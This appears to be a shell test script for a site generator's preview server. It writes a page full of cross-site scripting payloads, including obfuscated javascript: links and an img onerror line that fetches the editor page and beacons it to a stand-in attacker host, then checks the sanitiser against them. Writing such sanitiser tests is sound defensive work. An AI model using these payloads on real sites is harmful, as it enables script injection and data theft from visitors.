#!/usr/bin/env bash
# The developers' own attack on a running preview (issue 25): a copy of the
# every-kind fixture, made a git repository, with raw HTML allowed and a
# hostile page, previewed by `portal serve`, and attack.py run against it.
# Usage: run.sh PATH/TO/portal
set -euo pipefail

portal=$(realpath "$1")
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d "${TMPDIR:-/tmp}/portal-attack-XXXXXX")
server_pid=
drain_pid=
cleanup() {
  if [ -n "$server_pid" ]; then
    kill "$server_pid" 2>/dev/null || true
    wait "$server_pid" 2>/dev/null || true
  fi
  if [ -n "$drain_pid" ]; then wait "$drain_pid" 2>/dev/null || true; fi
  chmod -R u+rwX "$work" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

site="$work/site"
cp -R "$here/../sites/every-kind" "$site"
sed -i 's/^allow_raw_html = false$/allow_raw_html = true/' "$site/site.toml"
grep -q '^allow_raw_html = true$' "$site/site.toml" || { echo "run.sh: site.toml has no allow_raw_html = false to turn on" >&2; exit 1; }

# Raw HTML that would run a script, were any of it passed through.
cat > "$site/content/hostile.md" <<'EOF'
+++
title = "Hostile page"
+++

HOSTILE-MARKER: every line below tries to run a script.

<img src=x onerror="fetch('/__portal/edit/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example/',t))" alt="x">

<a href="javascript:alert(document.body.dataset.secret)">a javascript: link</a>

<a href=" jav&#x09;ascript:alert(1)">an entity-split javascript: link</a>

<a href="JaVaScRiPt&colon;alert(1)">a javascript: link with a named colon</a>

<script>alert(document.cookie)</script>

<svg onload="alert(1)"><circle r="1"/></svg>

<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>

<details open ontoggle="alert(1)"><summary>toggle</summary>text</details>

<p style="background:url(javascript:alert(1))">styled</p>

<form action="/__portal/edit/save" method="post"><button formaction="javascript:alert(1)">send</button></form>

<object data="javascript:alert(1)"></object>

<math><mi xlink:href="javascript:alert(1)">m</mi></math>

<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>

<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" alt="data">

<video><source onerror="alert(1)"></video>

<body onload="alert(1)">

![A hostile drawing](@/hostile.svg)

HOSTILE-END: the embed below comes last, since the sanitiser drops whatever follows one.

<embed src="javascript:alert(1)">
EOF

# An SVG that runs a script when opened as a page of the preview's origin.
cat > "$site/content/hostile.svg" <<'EOF'
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><circle r="5"/></svg>
EOF

# A file whose last line is its closing +++, with no final newline.
printf '+++\ntitle = "Ends at its mark"\n+++' > "$site/content/ends-at-mark.md"

git -C "$site" init -q
git -C "$site" config user.name "Attack Test"
git -C "$site" config user.email "attack@example.org"
git -C "$site" add -A
git -C "$site" commit -q -m "The fixture, with a hostile page"

# The preview on any free port; its first line names the address (an event, not a sleep).
mkfifo "$work/out"
"$portal" serve --source "$site" --port 0 > "$work/out" 2> "$work/serve.err" &
server_pid=$!
exec 3< "$work/out"
port=
while IFS= read -r line <&3; do
  echo "serve: $line"
  if [[ $line =~ ^Previewing.*http://127\.0\.0\.1:([0-9]+)/ ]]; then
    port=${BASH_REMATCH[1]}
    break
  fi
done
if [ -z "$port" ]; then
  echo "run.sh: portal serve did not start:" >&2
  cat "$work/serve.err" >&2
  exit 1
fi
# Its later lines ("Rebuilt.") are read on, so that it never blocks on a full pipe.
cat <&3 > "$work/serve.out" &
drain_pid=$!
exec 3<&-

status=0
python3 "$here/attack.py" --port "$port" --pid "$server_pid" --site "$site" --portal "$portal" --work "$work" || status=$?
if ! kill -0 "$server_pid" 2>/dev/null; then
  echo "FAIL server: portal serve is no longer running" >&2
  cat "$work/serve.err" >&2
  status=1
fi
if [ "$status" -ne 0 ]; then
  echo "--- the end of portal serve's terminal ---" >&2
  tail -n 40 "$work/serve.err" >&2 || true
fi
exit "$status"
